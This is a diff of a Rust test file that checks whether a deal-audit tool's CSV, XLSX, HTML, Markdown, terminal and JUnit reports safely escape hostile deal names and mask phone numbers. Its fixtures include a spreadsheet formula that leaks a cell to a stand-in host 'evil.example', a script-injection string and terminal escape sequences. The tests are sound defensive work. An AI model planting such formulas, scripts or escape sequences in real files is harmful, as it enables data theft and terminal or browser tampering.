@@ -1,10 +1,18 @@
 //! What is written when exports carry hostile or personal text, end to
-//! end over `tests/reports/fixtures/hostile`: deal names that start like
-//! formulas (CSV and XLSX keep them as text), a deal named like a script
-//! (HTML and Markdown escape it), a phone number and an e-mail address in
-//! deal names (`--mask-phones` hides them in every format).
+//! end over `tests/reports/fixtures/hostile` with the rule set
+//! `hostile.toml`: deal names that start like formulas (CSV and XLSX keep
+//! them as text), a deal named like a script (HTML and Markdown escape
+//! it), terminal escape sequences in a deal's name and stage, a manager's
+//! name, a task's CRM cell and a waiver's reason (the table shows them as
+//! text), non-characters in a deal name (JUnit stays XML), and phone
+//! numbers and an e-mail address wherever text enters the report: deal
+//! names, a stage the rule set does not know (deal 710: its message and
+//! details quote it), the Bitrix24 task export's CRM cell naming a deal
+//! that is not there (task 2301: the file's note quotes it) and a
+//! waiver's reason (`--mask-phones` hides them in every format). Every
+//! phone number in the fixture has the code 927, so no `927` may show.
 
-use crate::support::{audit, out_dir, AS_OF, HOSTILE};
+use crate::support::{audit, out_dir, AS_OF, HOSTILE, HOSTILE_RULES};
 use calamine::{open_workbook, Data, Reader, Xlsx};
 
 const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1;\"Счёт\")";
@@ -15,7 +23,15 @@ const SCRIPT: &str = "<script>alert(1)</script>";
 const EMAIL: &str = "Заявка от ivan.petrov@mail.ru | срочно";
 
 fn run(format: &str, extra: &[&str]) -> Vec<u8> {
-    let mut args = vec![HOSTILE, "--as-of", AS_OF, "--format", format];
+    let mut args = vec![
+        HOSTILE,
+        "--rules",
+        HOSTILE_RULES,
+        "--as-of",
+        AS_OF,
+        "--format",
+        format,
+    ];
     args.extend(extra);
     let run = audit(&args);
     assert_eq!(run.code, 1, "{args:?}: {}", run.stderr);
@@ -94,8 +110,65 @@ fn html_escapes_a_script_in_a_deal_name() {
 #[test]
 fn markdown_escapes_deal_names_for_tables() {
     let md = text("markdown", &[]);
-    assert!(md.contains(r"\<script\>alert(1)\</script\>"), "{md}");
     assert!(md.contains(r"ivan.petrov@mail.ru \| срочно"), "{md}");
+}
+
+/// A viewer that does not honour a backslash before `<` (the original
+/// Markdown, many chat clients) would render `\<script\>` as a backslash
+/// and a script element: markup from the data is written as entities.
+#[test]
+fn markdown_writes_markup_from_the_data_as_entities() {
+    let md = text("markdown", &[]);
+    assert!(!md.contains('<') && !md.contains('>'), "{md}");
+    assert!(md.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "{md}");
+    // The formula deal's `&A1` is an ampersand, not the start of an entity.
+    assert!(md.contains("&amp;A1;"), "{md}");
+}
+
+/// Deal 707's name carries a window-title sequence and a screen clear,
+/// its stage a concealment, manager Сидоров Олег's name a blink, task
+/// 2303's CRM cell (which matches no deal) and the second waiver's reason
+/// a screen clear. Colour is off (standard output is not a terminal), so
+/// no escape character may be written at all, and each shows as `\u{1b}`.
+#[test]
+fn the_table_shows_escape_sequences_as_text() {
+    for extra in [&[][..], &["--summary"][..]] {
+        let table = text("table", extra);
+        assert!(
+            !table.contains('\u{1b}'),
+            "{extra:?}: an escape reaches the terminal"
+        );
+        assert!(
+            !table.contains('\u{7}'),
+            "{extra:?}: a bell reaches the terminal"
+        );
+        assert!(table.contains(r"Сидоров Олег\u{1b}[5m"), "{table}");
+    }
+    let table = text("table", &[]);
+    for shown in [
+        r"Окна ПВХ\u{1b}]0;взлом\u{7}\u{1b}[2J",
+        r"Замер\u{1b}[8m",
+        r"«Счёт\u{1b}[2J» matches no deal",
+        r"номер у прораба \u{1b}[2J уточнить",
+    ] {
+        assert!(table.contains(shown), "{shown} is shown as text:\n{table}");
+    }
+}
+
+/// Deal 708's name carries U+FFFE and U+FFFF, which are no XML characters:
+/// a strict reader (a CI server's) refuses the whole file.
+#[test]
+fn junit_is_xml_whatever_the_names() {
+    let xml = text("junit", &[]);
+    let bad: Vec<char> = xml.chars().filter(|&c| !is_xml_char(c)).collect();
+    assert!(bad.is_empty(), "not XML characters: {bad:?}");
+    assert!(xml.contains("Котёл\u{FFFD}\u{FFFD} для дачи"), "{xml}");
+}
+
+/// XML 1.0's `Char`.
+fn is_xml_char(c: char) -> bool {
+    matches!(c, '\t' | '\n' | '\r' | '\u{20}'..='\u{D7FF}' | '\u{E000}'..='\u{FFFD}')
+        || c >= '\u{10000}'
 }
 
 #[test]
